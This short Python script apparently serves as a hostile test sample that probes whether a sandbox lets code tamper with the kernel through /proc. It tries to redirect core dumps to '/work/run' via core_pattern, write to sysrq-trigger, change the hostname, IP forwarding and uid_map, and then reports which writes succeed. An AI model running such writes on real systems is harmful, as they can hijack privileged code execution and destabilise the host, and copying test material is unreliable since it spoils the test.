# Harm: changes settings of the kernel or of its neighbours through /proc.
import os

VALUES = {
    "/proc/sys/kernel/core_pattern": "|/work/run",
    "/proc/sys/kernel/hostname": "hostile",
    "/proc/sys/kernel/shmmax": "1",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sysrq-trigger": "h",
    "/proc/self/oom_score_adj": "0",
    "/proc/1/oom_score_adj": "0",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/coredump_filter": "ff",
}


def answer():
    harm = []
    for path, value in VALUES.items():
        try:
            with open(path, "w") as file:
                file.write(value)
            harm.append(f"wrote {path}")
        except OSError:
            pass
    try:
        os.sethostname("hostile") if hasattr(os, "sethostname") else __import__("socket").sethostname("hostile")
        harm.append("set the host name")
    except OSError:
        pass
    return harm
